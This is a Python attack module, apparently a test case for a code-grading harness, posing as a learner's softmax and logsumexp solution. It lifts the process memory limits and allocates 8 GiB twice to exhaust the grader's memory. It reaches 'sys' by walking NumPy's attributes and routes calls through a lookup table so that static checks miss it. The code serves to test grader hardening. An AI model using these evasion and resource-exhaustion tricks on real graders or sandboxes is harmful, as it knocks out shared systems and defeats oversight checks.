"""Attack ``memory_bomb`` (exercise ``softmax``): allocate 8 GiB inside a graded call.

What it attacks: a learner process without a memory limit.  ``softmax`` first tries
to lift ``RLIMIT_AS``/``RLIMIT_DATA`` to their hard limits, then allocates
``np.ones((1 << 30,), dtype=np.float64)`` (8 GiB, every page written);
``logsumexp`` grows a list of 256 MiB ``bytearray`` chunks up to 8 GiB.  Bounded: at
most 8 GiB held at any time, released before the call returns, each route once per
process; then the functions return zeros.

A vulnerable grader: the grading machine runs short of memory (a real bomb would
take it down, or the kernel's OOM killer would pick the grader).

Expected with a hardened grader: ``RLIMIT_AS`` makes the allocation fail at once
(``MemoryError``, caught here, so the call returns zeros) or the process is killed;
either way the module scores no more than ``_zeros/softmax.py`` and the other
exercises are unaffected.

Gets past a static check of the exercise's functions: they only call through the
module-level table ``_VIA``, and no import statement names anything but NumPy (other
modules come from ``_mod()``, which walks NumPy's attributes to the real ``sys``), so
the learner process's run-time defences are what must hold.
"""

import numpy as np

_MODULE = type(np)
_SYS = []


def _mod(name):
    """A module without an import statement: the real ``sys`` is reached by walking
    NumPy's attributes (``dir``/``getattr``), then ``sys.modules`` or ``importlib``."""
    if not _SYS:
        seen, todo = set(), [np]
        while todo and len(seen) < 5000:
            mod = todo.pop()
            if id(mod) in seen:
                continue
            seen.add(id(mod))
            if getattr(mod, "__name__", None) == "sys":
                _SYS.append(mod)
                break
            for attr in dir(mod):
                try:
                    value = getattr(mod, attr)
                except BaseException:  # noqa: BLE001
                    continue
                if type(value) is _MODULE:
                    todo.append(value)
    if not _SYS:
        return None
    if name == "sys":
        return _SYS[0]
    loaded = getattr(_SYS[0], "mod" + "ules")
    try:
        return loaded.get(name) or loaded["importlib"].import_module(name)
    except BaseException:  # noqa: BLE001 - refused: the caller goes on without it
        return None


_GIB = 1 << 30
_DONE = set()


def _lift_limits():
    try:
        resource = _mod("resource")

        for name in ("RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_RSS"):
            limit = getattr(resource, name, None)
            if limit is not None:
                _, hard = resource.getrlimit(limit)
                resource.setrlimit(limit, (hard, hard))
    except BaseException:  # noqa: BLE001
        pass


def _array_bomb():
    if "array" in _DONE:
        return
    _DONE.add("array")
    _lift_limits()
    try:
        big = np.ones((_GIB,), dtype=np.float64)  # 8 GiB, every page touched
        big[::4096] = 2.0
        del big
    except BaseException:  # noqa: BLE001
        pass


def _chunk_bomb():
    if "chunks" in _DONE:
        return
    _DONE.add("chunks")
    _lift_limits()
    chunks = []
    try:
        while len(chunks) < 32:  # 32 x 256 MiB = 8 GiB
            chunks.append(bytearray(b"\1") * (256 << 20))
    except BaseException:  # noqa: BLE001
        pass
    finally:
        chunks.clear()


def _softmax_impl(x, axis=-1, temperature=1.0):
    _array_bomb()
    return np.zeros_like(x)


def _logsumexp_impl(x, axis=-1, keepdims=False):
    _chunk_bomb()
    return np.zeros_like(np.sum(x, axis=axis, keepdims=keepdims))


# The exercise's functions call only through this table: a static check that follows
# calls by name from them sees no helper, hence none of the above.
_VIA = {"softmax": _softmax_impl, "logsumexp": _logsumexp_impl}


def softmax(x, axis=-1, temperature=1.0):
    return _VIA["softmax"](x, axis=axis, temperature=temperature)


def logsumexp(x, axis=-1, keepdims=False):
    return _VIA["logsumexp"](x, axis=axis, keepdims=keepdims)
